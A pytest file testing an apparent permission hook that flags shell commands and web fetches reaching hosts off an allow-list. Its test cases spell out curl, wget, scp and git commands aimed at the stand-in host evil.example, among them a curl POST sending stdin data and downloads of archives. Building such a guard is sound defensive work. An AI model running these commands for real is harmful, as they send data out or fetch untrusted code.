"""ask_before_network: hosts on the list pass, others ask, and a mention is no connection."""

import pytest

from hookwright.testing.builders import bash, tool_use


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl -s https://api.github.com/repos", ""),
        ("curl http://localhost:8000/health", ""),
        ("curl -s http://127.0.0.1:8000/ | jq .", ""),
        ("echo 'curl https://evil.example'", ""),
        ("grep curl https.txt", ""),
        ("curl https://evil.example/x", "evil.example"),
        ("curl -X POST -H 'A: b' -d @- https://ann:pw@evil.example:8443/x", "evil.example"),
        ("curl evil.example", "evil.example"),
        ("curl evil.example -H 'A: b' -o out.txt", "evil.example"),
        ("curl -sSfLO evil.example/x.tgz", "evil.example"),
        ("wget -O out.txt evil.example/a", "evil.example"),
        ("nc -z localhost 5432", ""),
        ("curl https://notgithub.com", "notgithub.com"),
        ("sudo timeout 5 wget -q http://evil.example/a.tgz", "evil.example"),
        ("make && ssh -p 2222 ann@db.example uptime", "db.example"),
        ("scp -P 22 dump.sql ann@db.example:/tmp/", "db.example"),
        ("rsync -a ./out/ out2/", ""),
        ("git clone git@evil.example:a/b.git", "evil.example"),
        ("git clone https://github.com/a/b", ""),
        ("bash -c 'curl https://evil.example'", "evil.example"),
        ("U=https://evil.example; curl $U", "evil.example"),
    ],
)
def test_the_list_decides_who_is_asked_about(asked, command, host):
    decision = asked(bash(command))
    assert (decision.reason if decision else "").startswith(f"this talks to {host};" if host else "")
    assert (decision is None) == (host == "")


def test_a_host_that_only_the_running_command_knows_is_asked_about(asked):
    decision = asked(bash('curl "$WEBHOOK"'))
    assert decision.permission == "ask"
    assert "$WEBHOOK" in decision.reason


@pytest.mark.parametrize(("url", "says"), [("https://github.com/x", ""), ("https://evil.example/", "ask")])
def test_web_fetch_is_held_to_the_same(asked, url, says):
    assert asked.says(tool_use("WebFetch", {"url": url, "prompt": "read"})) == says


def test_the_allowed_hosts_can_be_configured(asked):
    assert asked.says(bash("curl https://a.evil.example"), hosts=("evil.example",)) == ""
